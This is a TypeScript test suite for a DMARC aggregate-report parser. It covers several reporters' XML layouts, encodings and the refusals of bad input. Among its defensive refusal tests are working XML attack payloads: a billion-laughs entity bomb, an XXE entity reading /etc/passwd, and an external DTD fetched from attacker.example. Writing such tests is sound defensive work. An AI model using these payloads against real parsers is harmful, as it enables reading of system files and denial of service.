/**
 * DMARC aggregate reports as reporters send them (fixtures in
 * test/fixtures/reports/: Google's, Microsoft's, Yahoo's layouts and a DMARCbis
 * report), their variations, and every refusal with its reason.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAggregate } from '../../../src/protocols/reports/dmarc-aggregate.ts';
import type { ReportLimits } from '../../../src/protocols/reports/types.ts';

const fixture = (name: string) => readFileSync(join(import.meta.dirname, '../../fixtures/reports', name));

const record = (ip = '192.0.2.1', count = '1', extra = '') =>
  `<record><row><source_ip>${ip}</source_ip><count>${count}</count><policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated></row><identifiers><header_from>example.com</header_from></identifiers><auth_results><spf><domain>example.com</domain><result>pass</result></spf></auth_results>${extra}</record>`;

/** A small report; each part may be replaced. */
function report(parts: { metadata?: string; policy?: string; records?: string; prolog?: string } = {}): string {
  const metadata =
    parts.metadata ?? '<org_name>Reporter</org_name><email>dmarc@reporter.example</email><report_id>r1</report_id><date_range><begin>1704067200</begin><end>1704153599</end></date_range>';
  return `${parts.prolog ?? '<?xml version="1.0"?>'}<feedback><report_metadata>${metadata}</report_metadata><policy_published>${parts.policy ?? '<domain>example.com</domain><p>none</p>'}</policy_published>${parts.records ?? record()}</feedback>`;
}

async function refusal(xml: string | Buffer, limits: Partial<ReportLimits> = {}) {
  try {
    await parseAggregate(xml, limits);
  } catch (error: any) {
    return { code: error.code, message: error.message };
  }
  throw new Error('not refused');
}

describe('DMARC aggregate: reporters', () => {
  it('reads a Google report whole', async () => {
    expect(await parseAggregate(fixture('google.xml'))).toEqual({
      kind: 'dmarc-aggregate',
      org: 'google.com',
      orgEmail: 'noreply-dmarc-support@google.com',
      reportId: '5717107811868587391',
      begin: new Date('2023-12-31T00:00:00Z'),
      end: new Date('2023-12-31T23:59:59Z'),
      policy: { domain: 'example.com', adkim: 'r', aspf: 'r', p: 'none', sp: 'none', np: 'none', pct: 100 },
      errors: [],
      rows: [
        {
          sourceIp: '209.85.220.41',
          count: 12,
          disposition: 'none',
          dkimAligned: 'pass',
          spfAligned: 'pass',
          overrides: [],
          headerFrom: 'example.com',
          dkim: [{ domain: 'example.com', selector: 's2024', result: 'pass' }],
          spf: [{ domain: 'bounces.example.com', result: 'pass' }],
        },
        {
          sourceIp: '198.51.100.7',
          count: 2,
          disposition: 'none',
          dkimAligned: 'fail',
          spfAligned: 'fail',
          overrides: [{ type: 'local_policy', comment: 'arc=pass as.1.google.com=pass' }],
          headerFrom: 'example.com',
          dkim: [],
          spf: [{ domain: 'forwarder.example.net', result: 'softfail' }],
        },
      ],
      messages: 14,
    });
  });

  it('reads a Microsoft report: namespace declarations, <version>, upper-case results, envelope_to, two DKIM results', async () => {
    const parsed = await parseAggregate(fixture('microsoft.xml'));
    expect(parsed.org).toBe('Enterprise Outlook');
    expect(parsed.policy).toEqual({ domain: 'example.com', adkim: 'r', aspf: 'r', p: 'quarantine', sp: 'quarantine', pct: 100, fo: '0' });
    expect(parsed.rows).toEqual([
      {
        sourceIp: '2a01:111:f403:2c15::701',
        count: 3,
        disposition: 'none',
        dkimAligned: 'pass',
        spfAligned: 'fail',
        overrides: [],
        headerFrom: 'example.com',
        envelopeFrom: 'bounce.example.com',
        envelopeTo: 'outlook.com',
        dkim: [
          { domain: 'example.com', selector: 's1', result: 'pass' },
          { domain: 'esp.example.net', selector: 'k1', result: 'pass' },
        ],
        spf: [{ domain: 'bounce.example.com', scope: 'mfrom', result: 'softfail' }],
      },
    ]);
  });

  it('reads a Yahoo report: no sp, no fo, a rejected spoof', async () => {
    const parsed = await parseAggregate(fixture('yahoo.xml'));
    expect([parsed.org, parsed.orgEmail, parsed.reportId]).toEqual(['Yahoo', 'dmarchelp@yahooinc.com', '1704067200.736312']);
    expect(parsed.policy).toEqual({ domain: 'example.com', adkim: 'r', aspf: 'r', p: 'reject', pct: 100 });
    expect(parsed.rows.map((row) => [row.sourceIp, row.count, row.disposition, row.dkimAligned, row.spfAligned])).toEqual([['203.0.113.25', 40, 'reject', 'fail', 'fail']]);
    expect(parsed.messages).toBe(40);
  });

  it('reads a DMARCbis report: default namespace, np, testing, discovery_method, generator, human_result, two reasons, 3 days', async () => {
    const parsed = await parseAggregate(fixture('dmarcbis.xml'));
    expect(parsed.policy).toEqual({ domain: 'example.org', adkim: 's', aspf: 'r', p: 'quarantine', sp: 'none', np: 'reject' });
    expect(parsed.errors).toEqual(['policy_published/np: unknown value']);
    expect([parsed.begin, parsed.end]).toEqual([new Date('2024-01-01T00:00:00Z'), new Date('2024-01-04T00:00:00Z')]);
    expect(parsed.rows[0]!.overrides).toEqual([{ type: 'mailing_list', comment: 'lists.example.net' }, { type: 'other' }]);
    expect(parsed.rows[0]!.dkim).toEqual([{ domain: 'example.org', selector: 's', result: 'fail' }]);
    expect(parsed.rows[0]!.spf).toEqual([{ domain: 'lists.example.net', scope: 'mfrom', result: 'pass' }]);
    expect(parsed.rows[0]!.envelopeFrom).toBe('lists.example.net');
  });

  it('matches prefixed elements on their local names', async () => {
    const xml = report()
      .replace(/<(\/?)([a-z_]+)>/g, '<$1dmarc:$2>')
      .replace('<dmarc:feedback>', '<dmarc:feedback xmlns:dmarc="urn:ietf:params:xml:ns:dmarc-2.0">');
    expect(xml).toContain('<dmarc:source_ip>');
    const parsed = await parseAggregate(xml);
    expect([parsed.org, parsed.reportId, parsed.policy.domain, parsed.rows[0]!.sourceIp]).toEqual(['Reporter', 'r1', 'example.com', '192.0.2.1']);
  });

  it('trims white space around values, dates included, and keeps ranges longer than a day as given', async () => {
    const parsed = await parseAggregate(
      report({
        metadata: '<org_name>\n  Reporter  \n</org_name><report_id> r1 </report_id><date_range><begin>\n1704067200\n</begin><end> 1704672000 </end></date_range>',
        policy: '<domain> Example.COM </domain><adkim> S </adkim><p> Reject </p><pct> 50 </pct>',
        records: record(' 192.0.2.1 ', ' 7 '),
      }),
    );
    expect([parsed.org, parsed.reportId, parsed.begin.toISOString(), parsed.end.toISOString()]).toEqual(['Reporter', 'r1', '2024-01-01T00:00:00.000Z', '2024-01-08T00:00:00.000Z']);
    expect(parsed.policy).toEqual({ domain: 'example.com', adkim: 's', p: 'reject', pct: 50 });
    expect([parsed.rows[0]!.sourceIp, parsed.rows[0]!.count]).toEqual(['192.0.2.1', 7]);
  });

  it('names the reporter by its email domain when org_name is empty or missing', async () => {
    const parsed = await parseAggregate(
      report({ metadata: '<org_name> </org_name><email>noreply-dmarc@Mail.Example</email><report_id>r</report_id><date_range><begin>1</begin><end>2</end></date_range>' }),
    );
    expect([parsed.org, parsed.orgEmail]).toEqual(['mail.example', 'noreply-dmarc@Mail.Example']);
  });

  it('strips control characters and bounds reporter text', async () => {
    const parsed = await parseAggregate(
      report({
        metadata: `<org_name>Evil\t&#x9b;31m\n\n Org&#x202e;</org_name><report_id>r</report_id><date_range><begin>1</begin><end>2</end></date_range><error>${'e'.repeat(5000)}</error>`,
      }),
    );
    // Tab and line feeds, a C1 control (CSI) and a bidi override: each a space, runs of spaces one.
    expect(parsed.org).toBe('Evil 31m Org');
    expect(parsed.errors[0]).toHaveLength(1000);
  });

  it('sums counts into messages and shares repeated results between rows (frozen)', async () => {
    const parsed = await parseAggregate(report({ records: record('192.0.2.1', '3') + record('192.0.2.2', '4') + record('2001:db8::1', '0') }));
    expect(parsed.messages).toBe(7);
    expect(parsed.rows).toHaveLength(3);
    expect(parsed.rows[1]!.spf).toBe(parsed.rows[0]!.spf);
    expect(Object.isFrozen(parsed.rows[0]!.spf)).toBe(true);
    expect(parsed.rows[1]!.overrides).toBe(parsed.rows[0]!.overrides);
  });

  it('reads records with no auth_results and no policy_evaluated', async () => {
    const records = '<record><row><source_ip>192.0.2.9</source_ip><count>1</count></row><identifiers><header_from>example.com</header_from></identifiers></record>';
    expect((await parseAggregate(report({ records }))).rows).toEqual([
      { sourceIp: '192.0.2.9', count: 1, disposition: '', dkimAligned: '', spfAligned: '', overrides: [], headerFrom: 'example.com', dkim: [], spf: [] },
    ]);
  });
});

describe('DMARC aggregate: bytes and encodings', () => {
  it('skips a UTF-8 BOM', async () => {
    const parsed = await parseAggregate(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(report())]));
    expect(parsed.org).toBe('Reporter');
  });

  it('decodes invalid UTF-8 bytes and stray control bytes to U+FFFD instead of failing', async () => {
    const [before, after] = report().split('Reporter') as [string, string];
    const bytes = Buffer.concat([Buffer.from(`${before}Bad`), Buffer.from([0xff, 0xc3, 0x01, 0x00]), Buffer.from(`Org${after}`)]);
    const parsed = await parseAggregate(bytes);
    // U+FFFD for 0xff, for the truncated 0xc3, for the stray 0x01 and 0x00; then a space each, cut to one by cleanText
    expect(parsed.org).toBe('Bad\ufffd\ufffd\ufffd\ufffdOrg');
  });

  it('decodes a windows-1252 or ISO-8859-1 document as its declaration says', async () => {
    for (const encoding of ['windows-1252', 'ISO-8859-1']) {
      const [before, after] = report({ prolog: `<?xml version="1.0" encoding="${encoding}"?>` }).split('Reporter') as [string, string];
      const bytes = Buffer.concat([Buffer.from(before), Buffer.from([0x53, 0x6f, 0x63, 0x69, 0xe9, 0x74, 0xe9, 0x20, 0x80]), Buffer.from(after)]);
      expect((await parseAggregate(bytes)).org).toBe('Société €');
    }
  });

  it('decodes an unknown declared encoding as UTF-8, and UTF-16 with its BOM', async () => {
    const unknown = report({ prolog: '<?xml version="1.0" encoding="x-no-such-charset"?>' }).replace('Reporter', 'Société');
    expect((await parseAggregate(Buffer.from(unknown))).org).toBe('Société');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(report({ prolog: '<?xml version="1.0" encoding="UTF-16"?>' }).replace('Reporter', 'Société'), 'utf16le')]);
    expect((await parseAggregate(utf16)).org).toBe('Société');
  });

  it('reads characters split across chunks of a stream', async () => {
    const bytes = Buffer.from(report().replace('Reporter', 'Société 🚀'));
    async function* oneByteAtATime() {
      for (const byte of bytes) yield Uint8Array.of(byte);
    }
    expect((await parseAggregate(oneByteAtATime())).org).toBe('Société 🚀');
  });
});

describe('DMARC aggregate: refusals', () => {
  it('refuses any DOCTYPE: billion laughs', async () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><feedback><report_metadata><org_name>&lol3;</org_name></report_metadata></feedback>`;
    expect(await refusal(laughs)).toEqual({
      code: 'doctype',
      message: 'the XML has a DOCTYPE: refused, since entities (billion laughs, external entities) are declared there and a report never needs one',
    });
  });

  it('refuses any DOCTYPE: an external entity (XXE)', async () => {
    const xxe = report({ prolog: '<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' }).replace('Reporter', '&xxe;');
    expect((await refusal(xxe)).code).toBe('doctype');
    expect((await refusal(report({ prolog: '<!DOCTYPE feedback SYSTEM "http://attacker.example/x.dtd">' }))).code).toBe('doctype');
  });

  it('refuses an entity that was never declared as malformed', async () => {
    expect(await refusal(report().replace('Reporter', '&xxe;'))).toEqual({ code: 'malformed', message: 'the XML is not well-formed: line 1, column 63: undefined entity.' });
  });

  it('refuses elements nested past maxXmlDepth', async () => {
    const deep = `<feedback>${'<x>'.repeat(100_000)}`;
    expect(await refusal(deep)).toEqual({ code: 'xml-limits', message: 'the XML nests elements more than 16 deep (maxXmlDepth)' });
  });

  it('refuses more elements than maxXmlElements', async () => {
    const many = report({ records: record().repeat(20) });
    expect(await refusal(many, { maxXmlElements: 100 })).toEqual({ code: 'xml-limits', message: 'the XML has more than 100 elements (maxXmlElements)' });
    expect((await parseAggregate(many, { maxXmlElements: 1000 })).rows).toHaveLength(20);
  });

  it('refuses more records than maxRows', async () => {
    expect(await refusal(report({ records: record().repeat(3) }), { maxRows: 2 })).toEqual({ code: 'xml-limits', message: 'the report has more than 2 records (maxRows)' });
  });

  it('refuses a single text, comment or tag longer than 1 MiB (saxes would keep it whole)', async () => {
    const limit = { code: 'xml-limits', message: 'the XML has a text, comment or tag longer than 1048576 characters' };
    expect(await refusal(report({ records: `<record>${' '.repeat(2 * 1024 * 1024)}</record>` }))).toEqual(limit);
    expect(await refusal(report({ records: `<!--${'<'.repeat(2 * 1024 * 1024)}-->` }))).toEqual(limit);
    expect(await refusal(report({ records: `<record ${'a'.repeat(2 * 1024 * 1024)}="1"/>` }))).toEqual(limit);
  });

  it('refuses XML that is not well-formed, with the line and column', async () => {
    expect(await refusal('<?xml version="1.0"?>\n<feedback>\n<report_metadata>\n</feedback>')).toEqual({
      code: 'malformed',
      message: 'the XML is not well-formed: line 4, column 11: unexpected close tag.',
    });
    // Cut before its last "</record></feedback>"
    expect(await refusal(report().slice(0, -20))).toEqual({ code: 'malformed', message: 'the XML is not well-formed: line 1, column 625: unclosed tag: record' });
  });

  it('refuses a document whose root is not <feedback> as unknown', async () => {
    expect(await refusal('<html><body/></html>')).toEqual({ code: 'unknown', message: "an XML document whose root element is <html>, not a DMARC aggregate report's <feedback>" });
  });

  it('refuses a report missing a required field, naming it', async () => {
    const date = '<date_range><begin>1</begin><end>2</end></date_range>';
    expect(await refusal(report({ metadata: `<report_id>r</report_id>${date}` }))).toEqual({
      code: 'malformed',
      message: 'report_metadata/org_name is missing or empty, and there is no email to name the reporter by',
    });
    expect(await refusal(report({ metadata: `<org_name>o</org_name>${date}` }))).toEqual({ code: 'malformed', message: 'report_metadata/report_id is missing or empty' });
    expect(await refusal(report({ metadata: '<org_name>o</org_name><report_id>r</report_id><date_range><end>2</end></date_range>' }))).toEqual({
      code: 'malformed',
      message: 'report_metadata/date_range/begin is missing or empty',
    });
    expect(await refusal(report({ metadata: '<org_name>o</org_name><report_id>r</report_id><date_range><begin>1</begin><end>2024-01-01</end></date_range>' }))).toEqual({
      code: 'malformed',
      message: 'report_metadata/date_range/end "2024-01-01" is not a time in seconds',
    });
    expect(await refusal(report({ policy: '<p>none</p>' }))).toEqual({ code: 'malformed', message: 'policy_published/domain is missing or empty' });
    const noHeaderFrom = record().replace('<header_from>example.com</header_from>', '');
    expect(await refusal(report({ records: record() + noHeaderFrom }))).toEqual({ code: 'malformed', message: 'record 2: identifiers/header_from is missing' });
    expect(await refusal(report({ records: record().replace('<count>1</count>', '') }))).toEqual({ code: 'malformed', message: 'record 1: row/count is missing' });
  });

  it('refuses an invalid source IP, naming the record', async () => {
    expect(await refusal(report({ records: record() + record('999.1.2.3') }))).toEqual({ code: 'malformed', message: 'record 2: row/source_ip "999.1.2.3" is not an IP address' });
    expect(await refusal(report({ records: record('') }))).toEqual({ code: 'malformed', message: 'record 1: row/source_ip is missing' });
  });

  it('refuses a negative or non-integer count, naming the record', async () => {
    expect(await refusal(report({ records: record('192.0.2.1', '-5') }))).toEqual({ code: 'malformed', message: 'record 1: row/count "-5" is not a non-negative integer' });
    expect(await refusal(report({ records: record('192.0.2.1', '1.5') }))).toEqual({ code: 'malformed', message: 'record 1: row/count "1.5" is not a non-negative integer' });
  });
});
